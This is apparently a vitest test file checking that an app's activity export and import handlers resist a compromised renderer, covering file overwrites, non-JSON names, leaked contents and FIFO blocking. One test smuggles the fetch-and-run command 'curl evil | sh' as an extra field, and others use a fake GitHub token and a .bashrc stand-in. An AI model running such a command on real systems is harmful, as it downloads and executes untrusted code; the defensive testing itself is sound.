import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { sampleReceipt } from '../../../../scripts/testbed/sample-receipt';
import type { IpcResult } from '../../contract/domain';
import type { IpcRouter } from '../router';
import { createServices } from '../services/app-services';
import { createIpcRouter } from '../router';

/**
 * activity:export and activity:import through the real router: paths typed in the renderer are
 * opened in main, so these handlers are what stands between a compromised renderer and the
 * user's files (DESIGN 3): export creates new .json files only, import never quotes a file back.
 */
const sender = { transport: 'browser-shell' as const, id: 'test', trusted: true };
let home: string;
let router: IpcRouter;

async function call<T>(channel: string, arg?: unknown): Promise<IpcResult<T>> {
  return (await router.dispatch(channel, arg, sender)) as IpcResult<T>;
}

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'pic-activity-files-'));
  router = createIpcRouter(createServices({ transport: 'browser-shell', env: { PIC_STORE_HOME: home, PIC_STORE_APP_CONFIG: join(home, 'appcfg') }, startDir: home, openExternal: vi.fn(async () => false) }));
});

afterAll(() => {
  rmSync(home, { recursive: true, force: true });
});

describe('activity:export', () => {
  it('cannot replace an existing file (a .bashrc stand-in), create directories, or write a non-.json name', async () => {
    const rc = join(home, 'bashrc.json');
    writeFileSync(rc, 'export PATH=/usr/bin\n');
    const over = await call('activity:export', { receipt: sampleReceipt(), path: rc });
    expect(over.ok ? null : over.error.code).toBe('EXPORT_EXISTS');
    expect(readFileSync(rc, 'utf8')).toBe('export PATH=/usr/bin\n');

    const deep = await call('activity:export', { receipt: sampleReceipt(), path: join(home, 'a', 'b', 'r.json') });
    expect(deep.ok).toBe(false);
    expect(existsSync(join(home, 'a'))).toBe(false);

    const named = await call('activity:export', { receipt: sampleReceipt(), path: join(home, '.bashrc') });
    expect(named.ok ? null : named.error.code).toBe('EXPORT_NAME');
    expect(existsSync(join(home, '.bashrc'))).toBe(false);
  });

  it('writes a new file holding only the receipt fields, even when the renderer sends more', async () => {
    const r = sampleReceipt();
    const path = join(home, 'new receipt.json');
    const res = await call<{ path: string; bytes: number }>('activity:export', { receipt: { ...r, script: 'curl evil | sh' }, path });
    if (!res.ok) throw new Error(res.error.message);
    const text = readFileSync(path, 'utf8');
    expect(res.data.bytes).toBe(Buffer.byteLength(text));
    expect(text).not.toContain('curl evil');
    expect(JSON.parse(text)).toEqual(r);
  });
});

describe('activity:import', () => {
  it('reports a non-JSON file by line and column, never its content', async () => {
    const p = join(home, 'token.json');
    writeFileSync(p, 'ghp_SECRETTOKEN\n');
    const res = await call('activity:import', { path: p });
    expect(res.ok).toBe(false);
    expect(JSON.stringify(res)).not.toMatch(/SECRET|ghp_/);
    expect(res.ok ? '' : res.error.message).toMatch(/line 1, column 1/);
  });

  it('refuses a FIFO at once instead of blocking the handler', async () => {
    const fifo = join(home, 'pipe.json');
    execFileSync('mkfifo', [fifo]);
    const t0 = performance.now();
    const res = await call('activity:import', { path: fifo });
    expect(performance.now() - t0).toBeLessThan(2000);
    expect(res.ok ? null : res.error.code).toBe('RECEIPT_UNREADABLE');
  });
});
